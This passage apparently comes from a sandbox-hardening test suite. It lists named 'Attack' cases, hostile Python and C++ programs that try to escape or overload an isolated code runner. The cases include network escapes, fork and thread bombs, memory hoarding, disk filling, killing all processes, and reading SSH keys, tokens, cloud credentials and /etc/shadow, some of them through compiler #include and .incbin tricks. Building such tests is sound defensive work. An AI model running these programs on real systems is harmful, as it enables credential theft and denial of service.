libc.mq_open(("/" + $marker).encode(), os.O_CREAT | os.O_RDWR, 0o666, None)
print(6)
''', probe=r'''
found = [n for n in ls("/dev/shm") if $marker in n]
if libc.mq_open(("/" + $marker).encode(), os.O_RDONLY) >= 0:
    found.append("message queue")
print(json.dumps(found))
''', check=probe_found_nothing),
    Attack("unix-sockets", KERNEL, "python", r'''
import builtins
for address in ("\0" + $abstract, $unix_path):
    try:
        socket.socket(socket.AF_UNIX).connect(address)
        escaped(f"connected to {address!r}")
    except OSError:
        pass
server = socket.socket(socket.AF_UNIX)
attempt(server.bind, "\0" + $marker)
attempt(server.listen)
builtins.kept_server = server  # for a later task to find
print(6)
''', probe=r'''
try:
    socket.socket(socket.AF_UNIX).connect("\0" + $marker)
    print(json.dumps(["the previous task's abstract socket"]))
except OSError:
    print("[]")
''', check=probe_found_nothing),
    Attack("network-python", KERNEL, "python", r'''
import fcntl


def reach():
    for address in $host_addrs:
        try:
            socket.create_connection((address, $tcp_port), timeout=0.5)
            escaped(f"TCP to {address}")
        except OSError:
            pass
        attempt(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, b"escaped", (address, $udp_port))
    try:
        socket.getaddrinfo("pypi.org", 443)
        escaped("DNS")
    except OSError:
        pass


reach()
attempt(fcntl.ioctl, socket.socket(), 0x8914, struct.pack("16sH14x", b"lo", 1 | 0x40))  # SIOCSIFFLAGS: lo up
reach()
print(6)
'''),
    Attack("network-cpp", KERNEL, "cpp", r'''
#include <arpa/inet.h>
#include <cstdio>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main() {
    const char* addresses[] = $host_addrs_cpp;
    for (const char* address : addresses) {
        sockaddr_in to{};
        to.sin_family = AF_INET;
        inet_pton(AF_INET, address, &to.sin_addr);
        to.sin_port = htons($tcp_port);
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (sockaddr*)&to, sizeof to) == 0) printf("ESCAPED! TCP to %s\n", address);
        close(s);
        to.sin_port = htons($udp_port);
        int u = socket(AF_INET, SOCK_DGRAM, 0);
        sendto(u, "escaped", 7, 0, (sockaddr*)&to, sizeof to);
        close(u);
    }
    puts("6");
}
'''),
    Attack("network-generator", KERNEL, "generator", r'''
def gen(params):
    for address in $host_addrs:
        try:
            socket.create_connection((address, $tcp_port), timeout=0.5)
            escaped(f"TCP to {address}")
        except OSError:
            pass
        attempt(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, b"escaped", (address, $udp_port))
    return "3\n1 2 3\n", None
'''),
    Attack("memory-forks", KERNEL, "python", r'''
CHILDREN, SIZE = 5, 400 << 20  # 2000 MiB in all, against a 768 MiB limit
r, w = os.pipe()
for _ in range(CHILDREN):
    if os.fork() == 0:
        try:
            block = b"x" * SIZE  # touched: resident
            os.write(w, b"1")
            time.sleep(0.5)
        finally:
            os._exit(0)
os.close(w)
reports = 0
while chunk := os.read(r, 64):
    reports += len(chunk)
print(reports * SIZE)
''', check=memory_held, limits=ROOMY),
    Attack("memory-forks-cpp", KERNEL, "cpp", r'''
#include <cstdio>
#include <cstdlib>
#include <unistd.h>
int main() {
    const size_t size = 400ul << 20;
    int fds[2];
    if (pipe(fds) != 0) return 1;
    for (int i = 0; i < 5; i++)
        if (fork() == 0) {
            volatile char* p = (volatile char*)malloc(size);  // volatile: the stores cannot be optimised away
            if (p) {
                for (size_t i = 0; i < size; i += 4096) p[i] = 1;
                if (write(fds[1], "1", 1) != 1) _exit(1);
                usleep(500000);
            }
            _exit(0);
        }
    close(fds[1]);
    char buf[16];
    long reports = 0;
    ssize_t got;
    while ((got = read(fds[0], buf, sizeof buf)) > 0) reports += got;
    printf("%ld\n", reports * (long)size);
}
''', check=memory_held, limits=ROOMY),
    Attack("fork-bomb-generator", KERNEL, "generator", r'''
def gen(params):
    libc.prctl(15, ($bg_name + "-fork").encode(), 0, 0, 0)
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
''', check=stopped, limits=QUICK_GENERATOR),
    Attack("thread-bomb", KERNEL, "python", r'''
count = 0
while count < 100000:
    try:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        count += 1
    except RuntimeError:
        break
print(6)
'''),
    Attack("huge-display", KERNEL, "generator", r'''
def gen(params):
    return "3\n1 2 3\n", "x" * (256 << 20)
''', check=stopped_as_generator, limits=ROOMY),
    Attack("huge-stdin", KERNEL, "generator", r'''
def gen(params):
    return "1\n" + "9" * (64 << 20), None
''', check=lambda o: (stopped_as_generator(o), stopped_by_limit(o))),
    Attack("deep-display", KERNEL, "generator", r'''
def gen(params):
    nested = []
    for _ in range(200000):
        nested = [nested]
    return "3\n1 2 3\n", nested
''', check=stopped_as_generator),
    Attack("deep-forged-frame", KERNEL, "python", r'''
data = b"[" * 100000 + b"]" * 100000  # a frame nested deeper than any parser's recursion limit
spray(struct.pack(">I", len(data)) + data)
print(6)
'''),
    Attack("stderr-bomb", KERNEL, "cpp", r'''
#include <cstdio>
int main() { for (;;) std::fputs("xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n", stderr); }
''', check=stopped),
    Attack("disk-fill", KERNEL, "python", r'''
chunk = b"\0" * (1 << 20)
for directory in ("/tmp", os.getcwd(), "/dev/shm", "/var/tmp"):
    for i in range(4096):
        try:
            with open(os.path.join(directory, f"fill-{i}"), "wb") as f:
                f.write(chunk)
        except OSError:
            break
print(6)
''', probe=r'''
data = os.urandom(512 << 10)
with open("/tmp/probe", "wb") as f:
    f.write(data)
with open("/tmp/probe", "rb") as f:
    print("ok" if f.read() == data else "corrupt")
''', check=probe_ok),
    Attack("huge-env", KERNEL, "python", r'''
for i in range(64):
    os.environ[f"ESCAPE_{i}"] = "x" * 100000  # 6.4 MB of environment for whatever is started next
sys.argv[:] = ["x" * 100000] * 64
print(6)
'''),
    Attack("setsid-kill-all", KERNEL, "python", r'''
attempt(os.setsid)
for pid in (-1, os.getppid(), 1):
    attempt(os.kill, pid, signal.SIGKILL)
print(6)
'''),
    Attack("secret-environ", KERNEL, "python", r'''
loot = [dict(os.environ), os.environ.get($secret_name)]
for pid in ["self", "1", str(os.getppid()), str($host_pid)] + ls("/proc"):
    for name in ("environ", "cmdline"):
        loot.append(read(f"/proc/{pid}/{name}"))
print(repr(loot)[: 1 << 19])
'''),
    Attack("secret-files", KERNEL, "python", r'''
paths = [$canary, $ssh_key, $hf_token, "~/.ssh/id_rsa", "~/.cache/huggingface/token", "/root/.ssh/id_rsa",
         "/root/.cache/huggingface/token", os.path.join($repo, "setup.cfg"), os.path.join($repo, ".git", "config"),
         "/etc/shadow"]
loot = [read(os.path.expanduser(p)) for p in paths]
homes = ["/root", $home] + [os.path.join("/home", name) for name in ls("/home")]
for home in homes:  # the usual credentials of a developer's home
    for name in (".netrc", ".git-credentials", ".bash_history", ".aws/credentials", ".docker/config.json",
                 ".config/gh/hosts.yml", ".ssh/id_ed25519", ".ssh/id_rsa", ".cache/huggingface/token", "canary.txt"):
        loot.append(read(os.path.join(home, name)))
print(repr(loot)[: 1 << 19])
'''),
    Attack("secret-files-cpp", KERNEL, "cpp", r'''
#include <cstdio>
int main() {
    const char* paths[] = {$canary, $ssh_key, $hf_token, $repo "/setup.cfg", "/etc/shadow", "/proc/1/environ",
                           "/proc/self/environ"};
    for (const char* p : paths)
        if (FILE* f = fopen(p, "r")) {
            char buf[1 << 14];
            fwrite(buf, 1, fread(buf, 1, sizeof buf, f), stdout);
            fclose(f);
        }
}
'''),
    Attack("secret-generator", KERNEL, "generator", r'''
LOOT = {p: read(p) for p in ($canary, $ssh_key, $hf_token, "/proc/1/environ", "/proc/self/environ",
                             os.path.join($repo, "setup.cfg"))}
LOOT["env"] = dict(os.environ)


def gen(params):
    return "3\n1 2 3\n", LOOT
'''),
    Attack("memfd-hoard", KERNEL, "cpp", r'''
#include <cstdio>
#include <cstring>
#include <sys/mman.h>
#include <unistd.h>
int main() {  // memfd pages are in no process's resident set: 32 x 48 x 1 MiB = 1536 MiB
    static char block[1 << 20];
    memset(block, 1, sizeof block);
    int fds[2];
    if (pipe(fds) != 0) return 1;
    for (int i = 0; i < 32; i++)
        if (fork() == 0) {
            unsigned char held = 0;
            for (int j = 0; j < 48; j++) {
                int fd = memfd_create("hoard", 0);
                if (fd < 0 || write(fd, block, sizeof block) != (ssize_t)sizeof block) break;
                held++;
            }
            if (write(fds[1], &held, 1) != 1) _exit(1);
            sleep(1);
            _exit(0);
        }
    close(fds[1]);
    long total = 0;
    unsigned char held;
    while (read(fds[0], &held, 1) == 1) total += held;
    printf("%ld\n", total << 20);
}
''', check=memory_held, limits=HOARD),
    Attack("sysv-shm-hoard", KERNEL, "python", r'''
IPC_CREAT = 0o1000
libc.shmat.restype, libc.shmat.argtypes = ctypes.c_void_p, [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
SIZE, held = 64 << 20, 0
for i in range(24):  # 1.5 GiB of segments, each attached only while it is filled: in no resident set
    shm = libc.shmget($ipc_key + 1 + i, SIZE, IPC_CREAT | 0o600)
    address = libc.shmat(shm, None, 0) if shm >= 0 else None
    if address in (None, ctypes.c_void_p(-1).value):
        break
    ctypes.memset(address, 1, SIZE)
    libc.shmdt(address)
    held += SIZE
print(held, flush=True)
time.sleep(0.5)
''', check=memory_held, limits=HOARD),
    Attack("socket-buffer-hoard", KERNEL, "cpp", r'''
#include <cstdio>
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>
int main() {  // data queued in socket buffers is kernel memory, in no resident set
    static char block[1 << 16];
    long queued = 0;
    for (int j = 0; j < 29; j++) {
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) break;
        for (int end : pair) {
            int size = 1 << 30;
            setsockopt(end, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
            fcntl(end, F_SETFL, O_NONBLOCK);
            for (long n; (n = write(end, block, sizeof block)) > 0;) queued += n;
        }
    }
    printf("%ld\n", queued);
}
''', check=memory_held, limits=HOARD),
    Attack("keyring-persistence", KERNEL, "python", r'''
libc.syscall.restype = ctypes.c_long
for keyring in (-4, -3, -2):  # the user, session and process keyrings: kernel state beyond the task?
    libc.syscall(248, b"user", $marker.encode(), b"1\n666\n", 6, keyring)  # add_key
print(6)
''', probe=r'''
libc.syscall.restype = ctypes.c_long
found = []
key = libc.syscall(249, b"user", $marker.encode(), None, 0)  # request_key: search our keyrings
if key >= 0:
    value = ctypes.create_string_buffer(64)
    libc.syscall(250, 11, key, value, 64)  # KEYCTL_READ
    found.append(value.value.decode("utf-8", "replace"))
print(json.dumps(found))
''', check=probe_found_nothing),
    Attack("warm-import-exit", FORGE, "python", r'''
import unittest.__main__  # the trusted side may pre-import the stdlib modules a program names:
import lib2to3.__main__  # importing these calls sys.exit()
print(6)
'''),
    # ---- 5. hostile compiler input ---------------------------------------------------------------
    Attack("include-canary", COMPILER, "compile", r'''
#include $canary
int main() {}
'''),
    Attack("include-ssh-key", COMPILER, "compile", r'''
#if __has_include($ssh_key)
#include $ssh_key
#elif __has_include($hf_token)
#include $hf_token
#endif
int main() {}
'''),
    Attack("include-etc-shadow", COMPILER, "compile", r'''
#include "/etc/shadow"
int main() {}
'''),
    Attack("include-repo-file", COMPILER, "compile", r'''
#include $repo_setup
int main() {}
'''),
    Attack("include-proc-environ", COMPILER, "compile", r'''
#include "/proc/self/environ"
#include "/proc/1/environ"
int main() {}
'''),
    Attack("include-other-input", COMPILER, "compile", r'''
int main() { return
#if __has_include("/dev/stdin")
#include "/dev/stdin"
#elif __has_include("/tmp/stdin")
#include "/tmp/stdin"
#elif __has_include("/proc/1/fd/0")
#include "/proc/1/fd/0"
#endif
; }
'''),
    Attack("incbin-canary", COMPILER, "cpp", r'''
#include <cstdio>
__asm__(".section .rodata\n.global loot\nloot:\n.incbin \"" $canary "\"\n.byte 0\n.previous\n");
extern "C" const char loot[];
int main() { std::puts(loot); }
'''),
    Attack("incbin-bashrc", COMPILER, "cpp", r'''
#include <cstdio>
__asm__(".section .rodata\n.global loot\nloot:\n.incbin \"" $bashrc "\"\n.byte 0\n.previous\n");
extern "C" const char loot[];
int main() { std::puts(loot); }
'''),
    Attack("incbin-other-input", COMPILER, "cpp", r'''
#include <cstdio>
// the assembler copies whatever its stdin is (another task's input?) into the binary
__asm__(".section .rodata\n.global loot\nloot:\n.incbin \"/dev/stdin\"\n.byte 0\n.previous\n");
extern "C" const char loot[];
int main() { std::puts(loot); }
'''),
    Attack("template-bomb", COMPILER, "compile", r'''
template <int N, int M> struct Bomb {  // 2^40 distinct instantiations
    static constexpr long value = Bomb<N - 1, 2 * M>::value + Bomb<N - 1, 2 * M + 1>::value;
};
template <int M> struct Bomb<0, M> { static constexpr long value = M; };
int main() { return (int)Bomb<40, 1>::value; }
''', check=stopped_as_compile, limits=COMPILE_LIMITS),
    Attack("constexpr-spin", COMPILER, "compile", r'''
constexpr long spin() {  // 4e10 constexpr steps, each loop under the per-loop limit
    long s = 0;
    for (long i = 0; i < 200000; i++)
        for (long j = 0; j < 200000; j++) s += i ^ j;
    return s;
}
constexpr long value = spin();
int main() { return (int)(value & 1); }
''', check=stopped_as_compile, limits=COMPILE_LIMITS),
    Attack("include-dev-zero", COMPILER, "compile", r'''
#include "/dev/zero"
int main() {}
''', check=stopped_as_compile, limits=COMPILE_LIMITS),
    Attack("error-bomb", COMPILER, "compile", r'''
#define CAT(a, b) a##b
#define XCAT(a, b) CAT(a, b)
#define E int XCAT(f, __COUNTER__)() { return undefined_name + "x" * 3; }
#define TEN(x) x x x x x x x x x x
TEN(TEN(TEN(E)))
int main() {}
''', check=stopped_as_compile),
    Attack("error-flood", COMPILER, "compile", r'''
#define K "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
#define TEN(x) x x x x x x x x x x
template <int N> struct Fail {  // one 1.28 MB message, printed by each of 200 instantiations
    static_assert(N > 200, TEN(TEN(TEN(TEN(K)))));
    static constexpr int value = Fail<N + 1>::value;
};
template <> struct Fail<200> { static constexpr int value = 0; };
int main() { return Fail<0>::value; }  // 256 MB of diagnostics for whoever buffers them
''', check=stopped_as_compile),
    Attack("huge-binary", COMPILER, "cpp", r'''
#include <cstdio>
char ballast[96 << 20] = {1};  // initialised data: a 96 MB binary for the trusted side to read, cache and ship
int main() { std::printf("%d\n", ballast[0] + 5); }
'''),
    Attack("error-line-bomb", COMPILER, "compile", r'''
template <class... T> struct L {};
using T0 = L<int, long>;
using T1 = L<T0, T0, T0>; using T2 = L<T1, T1, T1>; using T3 = L<T2, T2, T2>; using T4 = L<T3, T3, T3>;
using T5 = L<T4, T4, T4>; using T6 = L<T5, T5, T5>; using T7 = L<T6, T6, T6>; using T8 = L<T7, T7, T7>;
using T9 = L<T8, T8, T8>; using T10 = L<T9, T9, T9>; using T11 = L<T10, T10, T10>;
int main() { T11 x; return x.missing; }  // one error line naming a type of megabytes
''', check=stopped_as_compile),
    Attack("pragma-tricks", COMPILER, "cpp", r'''
#pragma GCC dependency $canary "leaks whether and when the canary changed"
#pragma GCC optimize ("-fplugin=/tmp/evil.so")
#pragma GCC target ("arch=native")
#include <cstdio>
#pragma GCC poison system popen
''' + _SUM_CPP_MAIN),
]
